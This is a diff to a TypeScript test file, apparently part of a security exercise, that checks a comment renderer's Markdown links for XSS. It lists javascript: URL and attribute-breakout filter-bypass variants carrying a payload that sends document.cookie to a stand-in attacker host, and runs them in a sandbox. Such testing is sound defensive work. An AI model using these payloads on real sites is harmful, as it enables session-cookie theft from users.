@@ -1,50 +1,71 @@
 import assert from 'node:assert/strict'
 import vm from 'node:vm'
 import { scriptsOf, tagsOf } from '#proof/page'
+import type { Breach, Vary } from '#proof/vary'
 
 type Code = typeof import('./render-comment.ts')
 
-const render = ({ renderComment }: Code, source: string) =>
-  renderComment({ id: 12, author: 'Ada <ada@example.com>', writtenAt: new Date(0), source })
+const render = ({ renderComment }: Code, source: string, author = 'Ada') =>
+  renderComment({ id: 12, author, writtenAt: new Date(0), source })
 
-export async function works(code: Code) {
-  const html = render(code, 'See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>')
+export async function works(code: Code, vary: Vary) {
+  const label = `${vary.name()}'s guide`
+  const address = `https://example.com/${vary.word()}?a=${vary.number(1, 9)}&b=javascript:`
+  const person = `${vary.word()}-h`
+  const author = `${vary.name()} <${vary.word()}@example.com>`
+  const html = render(code, `See [${label}](${address}), \`a<b>\` and\nask @${person}.\n\n<b>Bye</b>`, author)
   const tags = tagsOf(html)
-  const links = tags.filter(({ name }) => name === 'a')
-  assert.deepEqual(
-    links.map(({ attributes, text }) => [attributes.href, text]),
-    [
-      ['https://example.com/guide?a=1&b=2', 'the guide'],
-      ['/people/grace-h', '@grace-h'],
-    ],
-  )
-  assert.equal(tags.find(({ name }) => name === 'code')?.text, 'a<b>')
-  assert.equal(tags.filter(({ name }) => name === 'p').length, 2)
-  assert.ok(html.includes('&lt;b&gt;Bye'))
-  assert.ok(html.includes('Ada &lt;ada@example.com&gt;'))
+  const links = tags.filter(({ name }) => name === 'a').map(({ attributes, text }) => [attributes.href, text])
+  assert.deepEqual(links[0], [address, label], `"${label}" should link to ${address}.`)
+  assert.deepEqual(links[1], [`/people/${person}`, `@${person}`], `@${person} should link to that person.`)
+  assert.equal(links.length, 2, 'The comment should have two links.')
+  assert.equal(tags.find(({ name }) => name === 'code')?.text, 'a<b>', 'Text between backticks should be shown as code.')
+  assert.equal(tags.filter(({ name }) => name === 'p').length, 2, 'An empty line should begin a new paragraph.')
+  assert.ok(html.includes('&lt;b&gt;Bye'), 'HTML in a comment should be shown as text.')
+  assert.equal(tags.find(({ name }) => name === 'header')?.text.trim(), author, `The author ${author} should be shown.`)
 }
 
-/** Does what a browser does at a click on a `javascript:` link: parses the address, decodes the rest and runs it. */
-function click(address: string): string {
-  const page = { location: '', document: { cookie: 'session=5e1f' } }
-  vm.runInNewContext(decodeURIComponent(new URL(address).href.slice('javascript:'.length)), page)
+/** Does what a browser does with a handler, or at a click on a `javascript:` link: parses the address, decodes the rest and runs it. */
+function run(script: string, cookie: string): string {
+  const page = { location: '', document: { cookie } }
+  const address = URL.parse(script)
+  const isAddress = address?.protocol === 'javascript:'
+  try {
+    vm.runInNewContext(isAddress ? decodeURIComponent(address.href.slice('javascript:'.length)) : script, page)
+  } catch {
+    // Not a script that runs.
+  }
   return page.location
 }
 
-const steal = `location='https://attacker.example/?'+document.cookie`
-const forms = [
+const formsOf = (steal: string) => [
   `javascript:${steal}`,
   `JavaScript:${steal}`,
   `\u0001javascript:${steal}`,
+  `\u0000\u001fjavascript:${steal}`,
   `javascript://example.com/%0a${steal}`,
-  `data:text/html,<script>${steal}</script>`,
+  `JAVASCRIPT://https://example.com/%0a${steal}`,
+  `javascript:/*https://example.com/*/${steal}`,
+  `javascript:'https://';${steal}`,
+  `javascript&colon;${steal}`,
+  `https://example.com/"onmouseover="${steal}`,
+  `https://example.com/'onmouseover='${steal.replaceAll("'", '`')}`,
 ]
 
-export async function exploit(code: Code, _vary?: unknown, payloads = forms): Promise<boolean> {
-  return payloads.some((target) => {
-    const scripts = scriptsOf(render(code, `See the [release notes](${target})`))
-    return scripts.some((address) => click(address).endsWith('session=5e1f'))
-  })
+export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
+  const cookie = `session=${vary.text(12)}`
+  for (const target of payloads ?? formsOf(`location='https://${vary.word()}.example/?'+document.cookie`)) {
+    const comment = `See the [release notes](${target})`
+    let scripts: string[] = []
+    try {
+      scripts = scriptsOf(render(code, comment))
+    } catch {
+      // Refused; the next form may be not.
+    }
+    const opened = scripts.map((script) => run(script, cookie)).find((address) => address.endsWith(cookie))
+    if (opened) return { sent: comment, got: `A click opens ${opened}` }
+  }
+  return false
 }
 
 // Attack mode: the learner writes the input.
